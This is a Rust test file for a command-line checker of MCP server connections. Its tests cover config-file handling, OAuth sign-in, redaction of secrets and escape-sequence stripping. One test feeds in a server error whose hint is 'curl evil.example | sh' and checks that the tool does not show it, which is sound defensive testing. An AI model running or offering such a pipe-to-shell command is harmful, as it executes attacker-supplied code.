    let line = "\"line\": \"command\" has the program and its arguments in one string\n";
    assert!(told.stdout.contains(line), "{}", told.stdout);
    assert!(told.stdout.contains("\"fine\": the entry has other arguments than given here"), "{}", told.stdout);
    let strict = "claude_desktop_config.json: line 1, column ";
    assert_eq!(told.stdout.contains(strict), cfg!(target_os = "linux"), "{}", told.stdout);
    assert!(!told.stdout.contains("hush"), "{}", told.stdout);
    assert_eq!(told.code, Some(1));
}

/// A named pipe, at whose other end is nobody.
fn make_pipe(path: &Path) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
}

#[tokio::test]
async fn irregular_host_settings_files_are_reported() {
    let server = Server::with(rich).await;
    let terminal = Terminal::new();
    let home = terminal.home.path();
    make_pipe(&home.join(".claude.json"));
    std::fs::create_dir_all(home.join(".cursor/mcp.json")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", home.join(".mcp.json")).unwrap();
    std::fs::create_dir_all(home.join(".gemini")).unwrap();
    std::fs::File::create(home.join(".gemini/settings.json")).unwrap().set_len(1 << 40).unwrap(); // holds nothing
    write(&home.join(".codex"), "a file, and no folder");
    let told = terminal.run(&[&server.url("/mcp"), "--verbose"]).await;
    for expected in [
        "info  host                  Claude Code, ~/.claude.json: cannot read this file: it is not a regular file\n",
        "info  host                  Cursor, ~/.cursor/mcp.json: cannot read this file: it is not a regular file\n",
        "info  host                  Gemini CLI, ~/.gemini/settings.json: cannot read this file: it is larger than 64 MiB\n",
        "info  host                  this project, ~/.mcp.json: cannot read this file: it is not a regular file\n",
        "skip  host                  no entry of a host starts mcp-remote\n",
    ] {
        assert!(told.stdout.contains(expected), "{expected}: {}", told.stdout);
    }
    assert!(!told.stdout.contains("Codex"), "{}", told.stdout);
    assert_eq!(told.code, Some(0));
}

#[tokio::test]
async fn piped_headers_are_read_once() {
    let server = Server::with(rich).await;
    let terminal = Terminal::new();
    let pipe = terminal.home.path().join("headers");
    make_pipe(&pipe);
    let writer = tokio::task::spawn_blocking({
        let pipe = pipe.clone();
        move || std::fs::write(pipe, "X-Key: once\n").unwrap()
    });
    let told = terminal.run(&[&server.url("/mcp"), "--header-file", pipe.to_str().unwrap()]).await;
    assert_eq!(told.code, Some(0), "{}{}", told.stdout, told.stderr);
    writer.await.unwrap();
}

#[tokio::test]
async fn readable_store_and_taken_port_are_warnings() {
    use std::os::unix::fs::PermissionsExt as _;
    let server = Server::with(rich).await;
    let url = server.url("/mcp");
    let terminal = Terminal::new();
    let folder = stored::folder(&terminal.store());
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o755)).unwrap();
    let taken = TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap().port();
    let _taken = [TcpListener::bind(("127.0.0.1", taken)).await, TcpListener::bind(("::1", taken)).await];
    let told = terminal.run(&[&url, &taken.to_string()]).await;
    for expected in [
        "warn  store                 other users of this computer can read ~/.mcp-auth/mcp-remote-v1\n",
        "Tip: chmod 700 ~/.mcp-auth/mcp-remote-v1\n",
        &format!(
            "warn  callback-port         cannot listen on callback port {taken} for the sign-in to 127.0.0.1:{}",
            server.port
        ),
    ] {
        assert!(told.stdout.contains(expected), "{expected}: {}", told.stdout);
    }
    assert!(told.stdout.ends_with("All checks passed, with 2 warnings.\n"), "{}", told.stdout);
    let left = std::fs::read_dir(&folder)
        .unwrap()
        .flatten()
        .filter(|file| file.path().extension().is_some_and(|end| end == "tmp"));
    assert_eq!(left.count(), 0, "the look has left something in the store");
}

#[tokio::test]
async fn json_output_has_steps_and_inventory() {
    let server = protected(|_| {}).await;
    let browser = Browser::consenting();
    let told = Terminal::new().with_browser(&browser).run(&[&server.url(), "--json"]).await;
    let document: Value = serde_json::from_str(&told.stdout).unwrap();
    let steps = document["steps"].as_array().unwrap();
    let names: Vec<_> = steps.iter().map(|step| step["step"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        [
            "environment",
            "host",
            "store",
            "stored-sign-in",
            "callback-port",
            "proxy",
            "dns",
            "tcp",
            "tls",
            "challenge",
            "resource",
            "authorization-server",
            "client",
            "sign-in",
            "token",
            "transport",
            "protocol",
            "handshake",
            "tools",
            "resources",
            "resource-templates",
            "prompts"
        ]
    );
    for step in steps {
        assert!(["ok", "info", "skip", "warn", "fail"].contains(&step["outcome"].as_str().unwrap()), "{step}");
        assert!(!step["text"].as_str().unwrap().is_empty(), "{step}");
    }
    assert!(steps[7]["ms"].is_u64(), "{}", steps[7]);
    assert_eq!(steps[0]["outcome"], "warn");
    assert!(steps[0]["action"].as_str().unwrap().contains("BROWSER"));
    assert_eq!(document["exitCode"], 0);
    assert_eq!(document["server"]["serverInfo"]["name"], "rich");
    assert_eq!(document["tools"][1]["name"], "find_zip");
    // The address is for the person, who reads stderr.
    let address = "/oauth/authorize?";
    assert!(told.stderr.contains(address) && !told.stdout.contains(address), "{}", told.stdout);
}

#[tokio::test]
async fn json_failure_has_code_and_action_of_catalogue() {
    let port = reserved_port().await;
    let told = client(&[&format!("http://127.0.0.1:{port}/mcp?key=hush-hush"), "--json", "--silent"]).await;
    let document: Value = serde_json::from_str(&told.stdout).unwrap();
    let last = document["steps"].as_array().unwrap().last().unwrap();
    assert_eq!(
        (&last["step"], &last["outcome"], &last["code"]),
        (&json!("tcp"), &json!("fail"), &json!("cannot_connect"))
    );
    assert!(last["action"].as_str().unwrap().starts_with("check that the server is running"), "{last}");
    assert_eq!((told.code, &document["exitCode"]), (Some(4), &json!(4)));
    assert_eq!((&document["server"], &document["tools"]), (&Value::Null, &json!([])));
    assert_eq!(told.stderr, "");
    assert!(!told.stdout.contains("hush"), "{}", told.stdout);
}

#[tokio::test]
async fn secret_repeated_by_server_is_not_shown() {
    let secret_client = Client::confidential("given", "hush-client-secret", "client_secret_basic");
    let server = protected(|settings| {
        settings.client_method = "client_secret_basic".into();
        settings.clients = vec![secret_client];
        settings.mcp = Arc::new(|request| match request.rpc().as_str() {
            // Says back everything that it was sent.
            "tools/list" => {
                // Long descriptions are cut, and the headers come in no order.
                let key = request.header("x-key");
                let all = format!("x-key {key:?} {} {:?}", request.path, request.headers);
                Reply::result(request, json!({"tools": [{"name": "echo", "description": all, "inputSchema": {}}]}))
            }
            "prompts/list" => Reply::json(json!({
                "jsonrpc": "2.0", "id": request.json()["id"],
                "error": {"code": -32603, "message": format!("{} {:?}", request.path, request.headers)}
            })),
            _ => rich(request),
        });
    })
    .await;
    let browser = Browser::consenting();
    let terminal = Terminal::new().with_browser(&browser).with("SECRET", "hush-client-secret");
    let url = server.url() + "?api_key=hush-query";
    let info = r#"{"client_id":"given","client_secret":"${SECRET}"}"#;
    for output in [&["--debug"][..], &["--json"], &["--json", "--debug"]] {
        let arguments =
            [&[&*url, "--header", "X-Key: hush-header", "--static-oauth-client-info", info], output].concat();
        let told = terminal.run(&arguments).await;
        assert!(
            told.stdout.contains("echo") && told.stdout.contains("x-key"),
            "it was there to be repeated: {}",
            told.stdout
        );
        for secret in server.secrets().iter().map(String::as_str).chain(["hush-header", "hush-query", "hush-client"]) {
            assert!(!told.stdout.contains(secret), "{secret}: {}", told.stdout);
            assert!(!told.stderr.contains(secret), "{secret}: {}", told.stderr);
        }
        assert_eq!(told.code, Some(5), "the prompts have failed");
        assert!(!told.stdout.contains(terminal.home.path().to_str().unwrap()), "{}", told.stdout);
    }
}

#[tokio::test]
async fn names_show_no_secret_and_move_no_cursor() {
    const KEY: &str = "0f8fad5b-d9cb-469f-a165-70867728950e";
    let server = Server::with(|request| match request.rpc().as_str() {
        "tools/list" => {
            let said = format!("{} {:?}", request.path, request.headers);
            let schema = json!({"type": "object", "properties": {said.clone(): {}}});
            let tool = json!({"name": "echo", "description": format!("\u{9b}2J\u{202e}{said}"), "inputSchema": schema});
            Reply::result(request, json!({"tools": [tool]}))
        }
        _ => rich(request),
    })
    .await;
    let url = server.url(&format!("/s/{KEY}/mcp"));
    for output in [&[][..], &["--json"]] {
        let told = client(&[&[&*url, "--header", "X-Key: hush-header"], output].concat()).await;
        let all = told.stdout + &told.stderr;
        assert!(all.contains("/s/…/mcp") && all.contains("echo"), "{all}");
        assert!(!all.contains(KEY) && !all.contains("hush"), "{all}");
        assert!(!all.contains(['\u{9b}', '\u{202e}']), "{all:?}");
    }
}

#[tokio::test]
async fn imitated_error_gives_no_tip() {
    for (code, told) in [("x\u{1b}]0;owned", "server_error"), ("timed_out", "timed_out")] {
        let server = Server::with(move |request| match request.rpc().as_str() {
            "tools/list" => Reply::json(json!({
                "jsonrpc": "2.0", "id": request.json()["id"],
                "error": {"code": -31000, "message": "mcp-remote: so\u{1b}[31m\nit is",
                          "data": {"code": code, "hint": "curl evil.example | sh"}}
            })),
            _ => rich(request),
        })
        .await;
        let (client, login) = (client(&[&server.url("/mcp")]).await, Terminal::new().login(&server.url("/mcp")).await);
        let all = client.stdout + &client.stderr + &login;
        assert!(all.contains(&format!("explain {told}\n")) && all.contains("it is"), "{all}");
        assert!(!all.contains(['\u{1b}']) && !all.contains("\nit is") && !all.contains("curl"), "{all:?}");
    }
}

#[tokio::test]
async fn unstored_token_is_not_shown() {
    let server = protected(|settings| {
        settings.mcp = Arc::new(|request| match request.rpc().as_str() {
            "tools/list" => {
                let said = format!("{:?}", request.headers);
                Reply::result(request, json!({"tools": [{"name": "echo", "description": said, "inputSchema": {}}]}))
            }
            _ => rich(request),
        });
    })
    .await;
    let browser = Browser::consenting();
    let terminal = Terminal::new().with_browser(&browser);
    let told = terminal.run(&[&server.url(), "--config-dir", "/dev/null/nowhere"]).await;
    assert!(
        told.stdout.contains("authorization") && told.stdout.contains("explain store_not_writable\n"),
        "{}",
        told.stdout
    );
    for secret in server.secrets() {
        assert!(!told.stdout.contains(&secret), "{secret}: {}", told.stdout);
    }
}

#[tokio::test]
async fn endless_large_pages_do_not_fill_memory() {
    let large = "x".repeat(8 * 1024 * 1024);
    let server = Server::with(move |request| match request.rpc().as_str() {
        "tools/list" => {
            let tool = json!({"name": "t", "description": large, "inputSchema": {"type": "object"}});
            Reply::result(request, json!({"tools": [tool], "nextCursor": "more"}))
        }
        _ => ordinary(request),
    })
    .await;
    let told = client(&[&*server.url("/mcp")]).await;
    assert!(told.stdout.contains("the server's list has no last page"), "{}", told.stdout);
    assert!(server.asked("tools/list").len() <= 10, "{} pages", server.asked("tools/list").len());
}

#[tokio::test]
async fn cut_secret_is_not_shown() {
    let server = Server::with(|request| match request.rpc().as_str() {
        "tools/list" => Reply::json(json!({
            "jsonrpc": "2.0", "id": request.json()["id"],
            "error": {"code": -32603, "message": format!("{}{}", "-".repeat(180), request.header("x-key").unwrap())}
        })),
        _ => rich(request),
    })
    .await;
    for output in [&[][..], &["--json"]] {
        let key = format!("X-Key: hush-{}", "4711".repeat(20));
        let told = client(&[&[&*server.url("/mcp"), "--header", &key], output].concat()).await;
        let all = told.stdout + &told.stderr;
        assert!(all.contains("-----…") && !all.contains("hush"), "{all}");
    }
}

#[tokio::test]
async fn endless_list_and_long_lines_are_cut() {
    let pages = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let server = Server::with(move |request| match request.rpc().as_str() {
        "tools/list" => {
            let page = pages.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
            let tool = |n| json!({"name": format!("t{page}-{n}"), "description": "x".repeat(5000), "inputSchema": {}});
            let tools: Vec<_> = (0..10).map(tool).collect();
            Reply::result(request, json!({"tools": tools, "nextCursor": page.to_string()}))
        }
        _ => rich(request),
    })
    .await;
    let told = client(&[&server.url("/mcp")]).await;
    let text = normal(&told.stdout, &[]);
    assert!(
        text.contains("warn  tools                 2000 so far, because the server's list has no last page (N ms)\n"),
        "{text}"
    );
    assert!(text.contains("and 1000 more (--json lists all)\n"), "{text}");
    assert!(text.lines().all(|line| line.chars().count() < 2200), "{text}");
    assert_eq!(told.code, Some(0));
}

#[tokio::test]
async fn tool_is_called_with_values_of_schema_types() {
    let server = Server::with(rich).await;
    let url = server.url("/mcp");
    let told =
        client(&[&url, "--header", "X-A: b", "call", "find_zip", "zip=01234", "n=5", "o={\"a\": [1]}", "t=a=b c"])
            .await;
    assert_eq!((told.code, &*told.stderr), (Some(0), ""), "{}", told.stdout);
    let (first, rest) = told.stdout.split_once('\n').unwrap();
    let got: Value = serde_json::from_str(first.strip_prefix("got ").unwrap()).unwrap();
    assert_eq!(got, json!({"zip": "01234", "n": 5, "o": {"a": [1]}, "t": "a=b c"}));
    assert_eq!(serde_json::from_str::<Value>(rest).unwrap()["mimeType"], "image/png");
    assert_eq!(server.asked("tools/call")[0].header("x-a"), Some("b"));
    for arguments in [&[&*url, "--json", "call", "add"][..], &[&url, "call", "add", "--json"]] {
        let told = client(arguments).await;
        let result: Value = serde_json::from_str(&told.stdout).unwrap();
        assert_eq!(result["content"][0]["text"], "got {}", "{result}");
    }
}

#[tokio::test]
async fn failed_tool_has_exit_code() {
    let server = Server::with(rich).await;
    let told = client(&[&server.url("/mcp"), "call", "fails"]).await;
    assert_eq!((told.code, &*told.stdout), (Some(1), "no such luck\n"), "{}", told.stderr);
}

#[tokio::test]
async fn resource_is_read() {
    let server = Server::with(rich).await;
    let told = client(&[&server.url("/mcp"), "read", "file:///a"]).await;
    assert_eq!((told.code, &*told.stdout, &*told.stderr), (Some(0), "A\nB\n", ""));
    assert_eq!(server.asked("resources/read")[0].json()["params"]["uri"], "file:///a");
    let told = client(&[&server.url("/mcp"), "3334", "read", "file:///a", "--json"]).await;
    let result: Value = serde_json::from_str(&told.stdout).unwrap();
    assert_eq!(result["contents"][0]["text"], "A\nB");
}

#[tokio::test]
async fn unanswered_call_is_reported_on_stderr_only() {
    let port = reserved_port().await;
    let told = client(&[&format!("http://127.0.0.1:{port}/mcp"), "call", "add"]).await;
    assert_eq!((told.code, &*told.stdout), (Some(4), ""));
    assert!(told.stderr.starts_with("FAIL  ") && told.stderr.contains("explain cannot_connect\n"), "{}", told.stderr);
    let server = Server::with(|request| match request.rpc().as_str() {
        "tools/call" => Reply::json(json!({
            "jsonrpc": "2.0", "id": request.json()["id"], "error": {"code": -32602, "message": "Unknown tool: ad"}
        })),
        _ => rich(request),
    })
    .await;
    let told = client(&[&server.url("/mcp"), "call", "ad"]).await;
    assert_eq!((told.code, &*told.stdout), (Some(5), ""));
    assert!(told.stderr.contains("error -32602: Unknown tool: ad"), "{}", told.stderr);
    assert!(told.stderr.contains("Tip: check the tool's name and arguments ("), "{}", told.stderr);
}

#[tokio::test]
async fn call_that_needs_sign_in_reports_on_stderr() {
    let server = protected(|_| {}).await;
    let browser = Browser::consenting();
    let told = Terminal::new().with_browser(&browser).run(&[&server.url(), "call", "add", "a=1"]).await;
    assert_eq!(told.code, Some(0), "{}", told.stderr);
    assert!(told.stdout.starts_with("got {\"a\":1}\n"), "{}", told.stdout);
    assert!(told.stderr.contains("/oauth/authorize?"), "{}", told.stderr);
}

#[tokio::test]
async fn invalid_arguments_exit_with_code_2() {
    for arguments in
        [&["http://127.0.0.1:1/mcp", "call"][..], &["http://127.0.0.1:1/mcp", "call", "t", "novalue"], &["call", "t"]]
    {
        let told = client(arguments).await;
        assert_eq!((told.code, &*told.stdout), (Some(2), ""), "{arguments:?}: {}", told.stderr);
        assert!(told.stderr.starts_with("error: ") && told.stderr.contains("\n  tip: "), "{}", told.stderr);
    }
}

#[tokio::test]
async fn server_error_is_reported_with_its_message() {
    let server = Server::with(|request| match request.rpc().as_str() {
        "tools/list" => {
            let id = request.id();
            Reply::json(format!(r#"{{"jsonrpc":"2.0","id":{id},"error":{{"code":-32603,"message":"out of ink"}}}}"#))
        }
        _ => rich(request),
    })
    .await;
    let told = client(&[&server.url("/mcp")]).await;
    let line = format!(
        "FAIL  tools                 127.0.0.1:{} answered tools/list with error -32603: out of ink\n",
        server.port
    );
    assert!(told.stdout.contains(&line), "{}", told.stdout);
    assert!(told.stdout.contains("Tip: report this to the server's maintainers"), "{}", told.stdout);
    assert_eq!(told.code, Some(5));
}

#[tokio::test]
async fn unauthorized_with_json_rpc_body_is_unauthorized() {
    let server = Server::with(|_| {
        Reply::status(
            401,
            "application/json",
            r#"{"jsonrpc":"2.0","id":null,"error":{"code":-32001,"message":"no key"}}"#,
        )
    })
    .await;
    let told = client(&[&server.url("/mcp")]).await;
    assert!(
        told.stdout.contains("(\"no key\")\n") && told.stdout.contains("explain unauthorized\n"),
        "{}",
        told.stdout
    );
    assert_eq!(told.code, Some(3));
}
